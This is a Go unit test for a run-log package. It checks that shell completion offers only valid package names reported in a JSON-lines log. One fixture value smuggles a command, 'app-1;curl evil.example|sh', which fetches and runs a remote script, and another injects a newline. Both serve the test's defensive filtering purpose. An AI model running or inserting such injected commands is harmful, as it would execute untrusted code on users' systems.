package runlog

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/keep-it-simple/kis/internal/event"
)

// TestCompletionOffersPackagesOnly: shells paste what it offers, and a log has what hosts reported.
func TestCompletionOffersPackagesOnly(t *testing.T) {
	t.Parallel()
	path := filepath.Join(t.TempDir(), "run.jsonl")
	line, err := json.Marshal(event.Event{Type: event.TypeReport, Report: &event.Report{Stage: "live", Package: "app-2", Hosts: []event.HostReport{
		{Was: "app-1"}, {Was: "app-1;curl evil.example|sh"}, {Was: "x\napp-3"}, {},
	}}})
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(path, line, 0o600))
	assert.Equal(t, []string{"app-2", "app-1"}, packagesOf(path, "live"))
}
